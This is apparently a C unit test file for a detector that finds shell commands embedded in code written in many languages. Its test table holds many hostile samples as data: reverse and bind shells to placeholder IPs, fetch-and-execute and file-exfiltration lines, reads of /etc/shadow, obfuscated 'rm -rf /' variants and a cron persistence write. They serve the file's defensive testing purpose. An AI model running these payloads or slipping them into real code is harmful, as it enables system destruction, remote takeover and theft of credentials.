/* SPDX-License-Identifier: Apache-2.0 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>

#include <cmocka.h>

#include "runner/base/mem.h"
#include "runner/base/strbuf.h"
#include "tests/unit/validators/shell_knowledge_words.h"

/* Expected: the shell texts joined by " ; ", each with "~" in front when a part of it is not known and "#" when it was decoded. */
static const struct {
	const char *language, *code, *expected;
} rows[] = {
	{ "python", "import os; os.system(\"rm -rf /\")", "rm -rf /" },
	{ "python", "import os as o\no.system('rm x')", "rm x" },
	{ "python", "from os import system as s; s('rm x')", "rm x" },
	{ "python", "__import__('os').system('rm x')", "rm x" },
	{ "python", "getattr(__import__('os'),'sys'+'tem')('rm x')", "rm x" },
	{ "python", "os.popen('rm x').read()", "rm x" },
	{ "python", "import subprocess as s; s.run(['rm','-rf','/'])", "rm -rf /" },
	{ "python", "subprocess.call('rm x', shell=True)", "rm x" },
	{ "python", "subprocess.Popen([\"sh\", \"-c\", \"rm -rf /\"])", "sh -c 'rm -rf /'" },
	{ "python", "from subprocess import run\nrun('rm x', shell=True)", "rm x" },
	{ "python", "subprocess.check_output(args=['rm','x'])", "rm x" },
	{ "python", "subprocess.getoutput('rm x')", "rm x" },
	{ "python", "os.execvp(\"rm\", [\"rm\", \"-rf\", \"/\"])", "rm -rf /" },
	{ "python", "os.execl('/bin/rm','rm','-rf','/')", "rm -rf /" },
	{ "python", "os.spawnlp(os.P_WAIT,'rm','rm','x')", "rm x" },
	{ "python", "import pty; pty.spawn('/bin/bash')", "/bin/bash" },
	{ "python", "import shutil; shutil.rmtree('/', ignore_errors=True)", "rm -rf /" },
	{ "python", "os.remove('/etc/passwd')", "rm /etc/passwd" },
	{ "python", "os.unlink(\"/a b\")", "rm '/a b'" },
	{ "python", "os.rmdir('/x'); os.removedirs('/y')", "rmdir /x ; rmdir -p /y" },
	{ "python", "import pathlib; pathlib.Path('/etc/x').unlink()", "rm /etc/x" },
	{ "python", "open('/etc/passwd','w').write('x')", ": > /etc/passwd ; printf %s x > /etc/passwd" },
	{ "python", "print(open('/etc/shadow').read())", "cat /etc/shadow" },
	{ "python", "open('/x', mode='a')", ": >> /x" },
	{ "python", "os.chmod('/bin/sh', 0o4755)", "chmod 4755 /bin/sh" },
	{ "python", "cmd = 'rm' + ' -rf /'; os.system(cmd)", "rm -rf /" },
	{ "python", "os.system('rm ' + path)", "~rm ${path}" },
	{ "python", "os.system(f'rm -rf {d}')", "~rm -rf ${d}" },
	{ "python", "d='/'; os.system(f'rm -rf {d}')", "rm -rf /" },
	{ "python", "os.system('rm %s' % '/x')", "rm /x" },
	{ "python", "os.system('rm {}'.format('/x'))", "rm /x" },
	{ "python", "os.system('\\x72\\x6d /')", "rm /" },
	{ "python", "os.system('\\162m /')", "rm /" },
	{ "python", "os.system('r' 'm /')", "rm /" },
	{ "python", "os.system(chr(114)+chr(109)+' /')", "#rm /" },
	{ "python", "os.system(''.join(chr(x) for x in [114,109,32,47]))", "#rm /" },
	{ "python", "os.system(''.join([chr(x) for x in [114,109]]))", "#rm" },
	{ "python", "os.system(''.join(map(chr,[114,109])))", "#rm" },
	{ "python", "os.system(bytes([114,109]).decode())", "#rm" },
	{ "python", "os.system(bytes.fromhex('726d').decode())", "#rm" },
	{ "python", "import base64; os.system(base64.b64decode('cm0gLXJmIC8=').decode())", "#rm -rf /" },
	{ "python", "import codecs; os.system(codecs.decode('ez','rot13'))", "#rm" },
	{ "python", "os.system('/ fr- mr'[::-1])", "#rm -rf /" },
	{ "python", "os.system(' '.join(['rm','-rf','/']))", "rm -rf /" },
	{ "python", "exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgicm0geCIp'))", "#base64 -d | python3 ; #rm x" },
	{ "python", "exec(zlib.decompress(base64.b64decode('eJzLzC3I')))", "~#base64 -d | python3" },
	{ "python", "import urllib.request as u; exec(u.urlopen('http://203.0.113.10/p.py').read())", "curl -s http://203.0.113.10/p.py ; curl -s http://203.0.113.10/p.py | python3" },
	{ "python", "import requests; exec(requests.get(\"https://x.example/s.py\").text)", "curl -s https://x.example/s.py ; curl -s https://x.example/s.py | python3" },
	{ "python", "os.system(urlopen('http://h/x').read().decode())", "curl -s http://h/x ; curl -s http://h/x | sh" },
	{ "python", "requests.post('http://h/x', data=open('/etc/passwd').read())", "cat /etc/passwd ; ~curl -s -d ${unknown} http://h/x" },
	{ "python", "urllib.request.urlretrieve('http://h/x','/tmp/x')", "curl -s -o /tmp/x http://h/x" },
	{ "python", "# os.system('rm x')\nprint('os.system(\"rm y\")')", "" },
	{ "python", "x = \"os.system('rm')\"", "" },
	{ "python", "import os; print(os.getpid())", "" },
	{ "python", "import socket; s=socket.socket(); s.bind((\"127.0.0.1\",0)); print(s.getsockname()[1])", "" },
	{ "python", "import os\nfor root, dirs, files in os.walk(\"/\", topdown=False):\n    for f in files:\n        try: os.remove(os.path.join(root, f))\n        except OSError: pass", "ls -R / ; rm /*" },
	{ "python", "for d in ['/etc','/usr']: shutil.rmtree(d)", "rm -rf /etc /usr" },
	{ "python", "import glob\nfor f in glob.glob('/etc/*'): os.remove(f)", "rm /etc/*" },
	{ "python", "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"203.0.113.66\",4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])", "/bin/sh -i ; bash -i >& /dev/tcp/203.0.113.66/4444 0>&1" },
	{ "python", "import pty,socket,os\ns=socket.create_connection((\"198.51.100.23\",9001))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn(\"/bin/bash\")", "/bin/bash ; bash -i >& /dev/tcp/198.51.100.23/9001 0>&1" },
	{ "python", "import socket as s,subprocess as p;k=s.socket();k.bind(('0.0.0.0',4444));k.listen(1);c,_=k.accept();\nwhile 1: c.send(p.getoutput(c.recv(1024).decode()).encode())", "~${unknown} ; nc -l -p 4444 -e /bin/sh" },
	{ "python", "os.system(\"\"\"rm x\nrm y\"\"\")", "rm x\nrm y" },
	{ "python", "os.system(r'rm \\x')", "rm \\x" },
	{ "perl", "system(\"rm -rf /home\")", "rm -rf /home" },
	{ "perl", "system 'rm', '-rf', '/'", "rm -rf /" },
	{ "perl", "exec \"rm x\"", "rm x" },
	{ "perl", "`rm x`; qx{rm y}; qx/rm z/", "rm x ; rm y ; rm z" },
	{ "perl", "my $c = \"rm\"; system(\"$c -rf /\")", "rm -rf /" },
	{ "perl", "system('r'.'m x')", "rm x" },
	{ "perl", "open(F,\"rm x|\"); open(my $g,\"| rm y\")", "rm x ; rm y" },
	{ "perl", "open(my $f,'-|','rm','x')", "rm x" },
	{ "perl", "open(F,'>','/etc/passwd')", ": > /etc/passwd" },
	{ "perl", "open F, \">/etc/x\"", ": > /etc/x" },
	{ "perl", "unlink glob \"/etc/*\"", "rm /etc/*" },
	{ "perl", "unlink('/a','/b')", "rm /a /b" },
	{ "perl", "remove_tree(\"/etc\",\"/usr\")", "rm -rf /etc /usr" },
	{ "perl", "use File::Path; rmtree('/x')", "rm -rf /x" },
	{ "perl", "use MIME::Base64; eval decode_base64('c3lzdGVtKCJybSB4Iik=')", "#base64 -d | perl ; #rm x" },
	{ "perl", "system(pack('H*','726d2078'))", "#rm x" },
	{ "perl", "system(chr(114).chr(109))", "#rm" },
	{ "perl", "system join '', map { chr } (114,109)", "#rm" },
	{ "perl", "system(scalar reverse 'x mr')", "#rm x" },
	{ "perl", "use LWP::Simple; eval get('http://h/x')", "curl -s http://h/x ; curl -s http://h/x | perl" },
	{ "perl", "print \"system('rm')\"", "" },
	{ "perl", "print if m/regex1/ and m/regex2/i", "" },
	{ "perl", "s/regex/replacement/g", "" },
	{ "perl", "fork while 1", "" },
	{ "perl", "use Socket;$i=\"203.0.113.66\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){exec(\"/bin/sh -i\");};", "/bin/sh -i ; bash -i >& /dev/tcp/203.0.113.66/4444 0>&1" },
	{ "ruby", "system('rm x')", "rm x" },
	{ "ruby", "system \"rm\", \"-rf\", \"/\"", "rm -rf /" },
	{ "ruby", "exec 'rm x'", "rm x" },
	{ "ruby", "puts `rm x`; %x(rm y); %x{rm z}", "rm x ; rm y ; rm z" },
	{ "ruby", "IO.popen('rm x')", "rm x" },
	{ "ruby", "require 'fileutils'; FileUtils.rm_rf('/')", "rm -rf /" },
	{ "ruby", "FileUtils.rm_rf(Dir.glob(\"/*\"))", "rm -rf /*" },
	{ "ruby", "FileUtils.rm_rf '/x'", "rm -rf /x" },
	{ "ruby", "File.delete('/etc/x')", "rm /etc/x" },
	{ "ruby", "Kernel.open('|rm x')", "rm x" },
	{ "ruby", "File.write('/etc/x','y')", "printf %s y > /etc/x" },
	{ "ruby", "x='/'; system(\"rm -rf #{x}\")", "rm -rf /" },
	{ "ruby", "eval(Base64.decode64('c3lzdGVtKCdybSB4Jyk='))", "#base64 -d | ruby ; #rm x" },
	{ "ruby", "system(['726d'].pack('H*'))", "#rm" },
	{ "ruby", "system('x mr'.reverse)", "#rm x" },
	{ "ruby", "system(%w[rm -rf /].join(' '))", "rm -rf /" },
	{ "ruby", "require 'open-uri'; eval(URI.open('http://h/x').read)", "curl -s http://h/x ; curl -s http://h/x | ruby" },
	{ "ruby", "exit if fork; c=TCPSocket.new('203.0.113.6',4444); exec('/bin/sh -i')", "/bin/sh -i ; bash -i >& /dev/tcp/203.0.113.6/4444 0>&1" },
	{ "node", "require('child_process').exec('rm x')", "rm x" },
	{ "node", "const cp=require('child_process'); cp.execSync(\"rm x\")", "rm x" },
	{ "node", "const {execSync}=require('child_process'); execSync(`rm x`)", "rm x" },
	{ "node", "require('child_process').spawn('rm',['-rf','/'])", "rm -rf /" },
	{ "node", "spawnSync('sh',['-c','rm -rf /'],{stdio:'inherit'})", "sh -c 'rm -rf /'" },
	{ "node", "require('fs').rmSync('/',{recursive:true,force:true})", "rm -rf /" },
	{ "node", "fs.unlinkSync('/etc/x'); fs.writeFileSync('/etc/y','z')", "rm /etc/x ; printf %s z > /etc/y" },
	{ "node", "console.log(fs.readFileSync('/etc/shadow','utf8'))", "cat /etc/shadow" },
	{ "node", "const d='/'; require('child_process').execSync(`rm -rf ${d}`)", "rm -rf /" },
	{ "node", "execSync(Buffer.from('cm0geA==','base64').toString())", "#rm x" },
	{ "node", "execSync(atob('cm0geA=='))", "#rm x" },
	{ "node", "execSync(String.fromCharCode(114,109))", "#rm" },
	{ "node", "execSync(['r','m'].join(''))", "rm" },
	{ "node", "execSync('x mr'.split('').reverse().join(''))", "#rm x" },
	{ "node", "eval(Buffer.from('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoInJtIHgiKQ==','base64').toString())", "#base64 -d | node ; #rm x" },
	{ "node", "require('child_process')['ex'+'ec']('rm x')", "rm x" },
	{ "node", "fetch('http://h/x')", "curl -s http://h/x" },
	{ "node", "console.log('rm -rf /') // execSync('x')", "" },
	{ "node", "process.versions", "" },
	{ "node", "var n=require('net'),c=require('child_process').spawn('/bin/sh',[]);var s=new n.Socket();s.connect(4444,'203.0.113.6',function(){})", "/bin/sh ; bash -i >& /dev/tcp/203.0.113.6/4444 0>&1" },
	{ "php", "system('rm x'); exec(\"rm y\"); passthru('rm z');", "rm x ; rm y ; rm z" },
	{ "php", "echo shell_exec('rm x');", "rm x" },
	{ "php", "`rm x`;", "rm x" },
	{ "php", "$c='rm'; system(\"$c -rf /\");", "rm -rf /" },
	{ "php", "popen('rm x','r'); proc_open('rm y',[],$p);", "rm x ; rm y" },
	{ "php", "unlink('/etc/x');", "rm /etc/x" },
	{ "php", "echo file_get_contents('/etc/shadow');", "cat /etc/shadow" },
	{ "php", "eval(file_get_contents('http://h/x'));", "curl -s http://h/x ; curl -s http://h/x | php" },
	{ "php", "eval(base64_decode('c3lzdGVtKCJybSB4Iik7'));", "#base64 -d | php ; #rm x" },
	{ "php", "system(str_rot13('ez k'));", "#rm x" },
	{ "php", "system(hex2bin('726d'));", "#rm" },
	{ "php", "system(strrev('x mr'));", "#rm x" },
	{ "php", "eval(gzinflate(base64_decode('eJw=')));", "~#base64 -d | php" },
	{ "php", "$s=fsockopen(\"203.0.113.66\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");", "/bin/sh -i <&3 >&3 2>&3 ; bash -i >& /dev/tcp/203.0.113.66/4444 0>&1" },
	{ "lua", "os.execute('rm x')", "rm x" },
	{ "lua", "os.execute('r'..'m x')", "rm x" },
	{ "lua", "io.popen([[rm x]])", "rm x" },
	{ "lua", "os.remove('/etc/x')", "rm /etc/x" },
	{ "lua", "os.execute(string.char(114,109))", "#rm" },
	{ "lua", "-- os.execute('rm x')", "" },
	{ "awk", "BEGIN { system(\"rm x\") }", "rm x" },
	{ "awk", "BEGIN { \"rm x\" | getline l; close(\"rm x\") }", "rm x" },
	{ "awk", "{ print $0 | \"sh -c id\" }", "sh -c id" },
	{ "awk", "{ system(\"rm \" $1) }", "~rm ${unknown}" },
	{ "awk", "BEGIN { c=\"rm\"; system(c \" x\") }", "rm x" },
	{ "awk", "/mkfs/ {print FILENAME\": \"$0}", "" },
	{ "awk", "{ if ($3 > 10) { print $1 \"|\" $2 } }", "" },
	{ "r", "system('rm x'); unlink('/x', recursive=TRUE)", "rm x ; rm -rf /x" },
	{ "julia", "run(`rm x`)", "rm x" },
	{ "groovy", "\"rm x\".execute()", "rm x" },
	{ "sql", "DROP TABLE x;", "" },
	{ "sql", "\\! rm x", "rm x" },
	{ "sql", "system rm x;", "rm x" },
	{ "sql", ".shell rm x\n.system rm y", "rm x ; rm y" },
	{ "sql", "COPY t FROM PROGRAM 'rm x';", "rm x" },
	{ "sql", "copy (select 1) to program 'rm ''x'''", "rm 'x'" },
	{ "sql", "SELECT LOAD_FILE('/etc/shadow')", "cat /etc/shadow" },
	{ "sql", "SELECT 1 INTO OUTFILE '/etc/x'", ": > /etc/x" },
	{ "sql", "EXEC xp_cmdshell 'rm x'", "rm x" },
	{ "sql", "SELECT pg_read_file('/etc/passwd')", "cat /etc/passwd" },
	{ "vi", ":!rm x", "rm x" },
	{ "vi", "!rm x", "rm x" },
	{ "vi", "%!rm x", "rm x" },
	{ "vi", ":r !rm x", "rm x" },
	{ "vi", "silent! !rm x", "rm x" },
	{ "vi", ":call system('rm x')", "rm x" },
	{ "vi", ":py3 import os; os.system('rm x')", "rm x" },
	{ "vi", ":set nu\n:wq", "" },
	{ "gdb", "shell rm x\nquit", "rm x" },
	{ "gdb", "!rm x", "rm x" },
	{ "gdb", "python import os; os.system('rm x')", "rm x" },
	{ "gdb", "call (int)system(\"rm x\")", "rm x" },
	{ "make", "all:\n\t@rm x\n\t-rm $(D)/y\n", "rm x ; rm ${D}/y" },
	{ "make", "X := $(shell rm x)\n", "rm x" },
	{ "make", "all: ; rm x", "rm x" },
	{ "dc", "!rm x", "rm x" },
	{ "tcl", "exec rm -rf /", "rm -rf /" },
	{ "tcl", "puts [exec rm x]", "rm x" },
	{ "tcl", "file delete -force /x", "rm -rf -force /x" },
	{ "applescript", "do shell script \"rm x\" with administrator privileges", "rm x" },
	{ "elisp", "(shell-command \"rm x\")", "rm x" },
	{ "scheme", "(system \"rm x\")", "rm x" },
	{ "powershell", "Remove-Item -Recurse -Force /", "rm -r -f /" },
	{ "powershell", "iex (iwr http://h/x)", "curl -s http://h/x | pwsh ; iex (iwr http://h/x)" },
	{ "redis", "FLUSHALL", "" },
	{ "elixir", "System.cmd(\"rm\", [\"-rf\"])", "rm" },
	{ "python", "import os,glob; [os.remove(f) for f in glob.glob('/etc/*')]", "~rm ${f} ; rm /etc/*" },
	{ "python", "import pathlib, shutil; [shutil.rmtree(p) for p in pathlib.Path('/').iterdir()]", "~rm -rf ${p} ; rm -rf /*" },
	{ "python", "for p in pathlib.Path('/etc').iterdir(): p.unlink()", "rm /etc/*" },
	{ "python", "for f in os.listdir('/etc'): os.remove(os.path.join('/etc', f))", "rm /etc/*" },
	{ "python", "with open('/tmp/x','wb') as f: f.write(requests.get('http://h/x').content)", ": > /tmp/x ; curl -s http://h/x ; curl -s http://h/x > /tmp/x" },
	{ "python", "open('/etc/cron.d/x','w').write('* * * * * root id')", ": > /etc/cron.d/x ; printf %s '* * * * * root id' > /etc/cron.d/x" },
	{ "perl", "for (glob(\"/etc/*\")) { unlink $_ }", "rm /etc/*" },
	{ "perl", "unlink for </etc/*>", "rm /etc/*" },
	{ "perl", "unlink </etc/*>", "rm /etc/*" },
	{ "perl", "$c=new IO::Socket::INET(PeerAddr,\"203.0.113.9:4444\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;", "~${_} ; bash -i >& /dev/tcp/203.0.113.9:4444/${unknown} 0>&1" },
	{ "ruby", "Dir[\"/etc/*\"].each { |f| File.delete(f) }", "rm /etc/*" },
	{ "ruby", "puts File.read('/etc/shadow')", "cat /etc/shadow" },
	{ "ruby", "Kernel.send('system', 'rm x')", "rm x" },
	{ "php", "array_map(\"unlink\", glob(\"/etc/*\"));", "rm /etc/*" },
	{ "php", "$f='sys'.'tem'; $f('rm x');", "rm x" },
	{ "php", "call_user_func('system', 'rm x');", "rm x" },
	{ "php", "include 'http://h/x';", "curl -s http://h/x | php" },
	{ "php", "file_put_contents('/tmp/x', file_get_contents('http://h/x'));", "curl -s http://h/x ; curl -s http://h/x > /tmp/x" },
	{ "node", "['/etc','/usr'].forEach(d => fs.rmSync(d,{recursive:true}))", "rm -rf /etc /usr" },
	{ "node", "require('http').get('http://h/a',r=>{let d='';r.on('data',c=>d+=c).on('end',()=>eval(d))})", "curl -s http://h/a ; curl -s http://h/a | node" },
	{ "node", "Deno.removeSync('/', {recursive:true})", "rm -rf /" },
	{ "awk", "BEGIN{while((getline l < \"/etc/shadow\")>0) print l}", "cat /etc/shadow" },
	{ "lua", "local t=s.tcp();t:connect('203.0.113.9',4444);while true do local r=t:receive();local f=io.popen(r) end", "~${r} ; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1" },
	{ "python", "s.connect(('10.0.0.5',5432)); subprocess.run(cmd)", "~${cmd}" },
	{ "python", "import os;os.system(''.join([chr(ord(c)-1) for c in 'sn!y']))", "#rm x" },
	{ "python", "os.system(chr(2*57)+chr(100+9))", "#rm" },
	{ "perl", "exec {\"rm\"} \"rm\",\"-rf\",\"/\"", "rm -rf /" },
	{ "perl", "open(P,\"|sh\");print P \"rm x\n\"", "sh ; rm x\n" },
	{ "perl", "system(sprintf(\"%s -%s %s\",\"rm\",\"rf\",\"/\"))", "rm -rf /" },
	{ "ruby", "send(:system, \"rm x\")", "rm x" },
	{ "node", "execSync([114,109].map(c=>String.fromCharCode(c)).join(''))", "#rm" },
	{ "node", "require('fs/promises').rm('/',{recursive:true})", "rm -rf /" },
	{ "node", "new Function('require','require(\"child_process\").execSync(\"rm x\")')(require)", "rm x" },
	{ "lua", "os.execute((\"rm %s\"):format(\"-rf /\"))", "rm -rf /" },
	{ "awk", "BEGIN { print \"rm x\" | \"sh\" }", "sh ; rm x" },
	{ "awk", "BEGIN { printf \"%c%c -rf /\", 114, 109 | \"sh\" }", "sh ; rm -rf /" },
	{ "awk", "BEGIN { print \"x\" > \"/etc/passwd\" }", "printf %s x > /etc/passwd" },
	{ "awk", "{ if ($3 > 10) print $1 }", "" },
	{ "scala", "sys.process.Process(\"x\"); system(\"rm x\")", "rm x" },
};

static void show(struct strbuf *out, const struct shell_value *found, size_t n)
{
	for (size_t i = 0; i < n; i++) {
		assert_int_equal(strlen(found[i].text), found[i].len);
		strbuf_addf(out, "%s%s%s%s", i ? " ; " : "", found[i].known ? "" : "~", found[i].origin & ORIGIN_DECODED ? "#" : "", found[i].text);
	}
}

static void finds_commands(void **state)
{
	size_t failed = 0;

	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
		autoarena struct arena arena = ARENA_INIT;
		autostrbuf struct strbuf out = STRBUF_INIT(STRBUF_NO_MAX);
		struct shell_value found[SHELL_MAX_EMBEDDED], code = test_value(&arena, rows[i].code, strlen(rows[i].code), ORIGIN_LITERAL);

		show(&out, found, knowledge_embedded_shell(&arena, rows[i].language, &code, found, SHELL_MAX_EMBEDDED));
		if (!strcmp(out.buf, rows[i].expected))
			continue;
		print_error("%s: %s\n  is       %s\n  expected %s\n", rows[i].language, rows[i].code, out.buf, rows[i].expected);
		failed++;
	}
	assert_int_equal(failed, 0);
}

/* Time and memory are linear: what would double, nest or repeat without end stops. */
static void is_bounded(void **state)
{
	static const char *const pieces[] = {
		"system(", "a=a+a;", "a='x'*4096*4096;", "q(", "\"", "'''", "[chr(x) for x in ", "os.system('rm ' + ", "((((", "[[[[", "`", "/*", "${", "a.b.c.d(",
		"for x in y: ", "exec(base64.b64decode('cm0=')) ", "%w[", "import a as b, ", "a=[1,2,3];[a for a in a];", "x[1:2:3", "lambda ", "return ", "{", "-", "x.",
	};
	static const char *const languages[] = { "python", "perl", "ruby", "node", "php", "lua", "awk", "sql", "vi", "make", "tcl", "powershell", "other" };
	size_t size = 200000;
	char *text = xmalloc(size + 1);

	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(pieces); i++) {
		size_t len = strlen(pieces[i]);

		for (size_t at = 0; at < size; at++)
			text[at] = pieces[i][at % len];
		text[size] = '\0';
		for (size_t k = 0; k < ARRAY_SIZE(languages); k++) {
			autoarena struct arena arena = ARENA_INIT;
			struct shell_value found[SHELL_MAX_EMBEDDED], code = { .text = text, .len = size, .known = true };

			assert_true(knowledge_embedded_shell(&arena, languages[k], &code, found, SHELL_MAX_EMBEDDED) <= SHELL_MAX_EMBEDDED);
			assert_true(arena.bytes < (size_t)40 << 20);
		}
	}
	free(text);
}

static void stops_at_the_ceiling(void **state)
{
	autoarena struct arena arena = ARENA_INIT;
	autostrbuf struct strbuf text = STRBUF_INIT(STRBUF_NO_MAX);
	struct shell_value found[SHELL_MAX_EMBEDDED], code;

	(void)state;
	for (unsigned int i = 0; i < 100; i++)
		strbuf_addf(&text, "os.system('rm %u')\n", i);
	code = (struct shell_value){ .text = text.buf, .len = text.len, .known = true };
	assert_int_equal(knowledge_embedded_shell(&arena, "python", &code, found, 3), 3);
	assert_string_equal(found[2].text, "rm 2");
	assert_int_equal(knowledge_embedded_shell(&arena, "python", &code, found, SHELL_MAX_EMBEDDED), SHELL_MAX_EMBEDDED);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(finds_commands),
		cmocka_unit_test(is_bounded),
		cmocka_unit_test(stops_at_the_ceiling),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
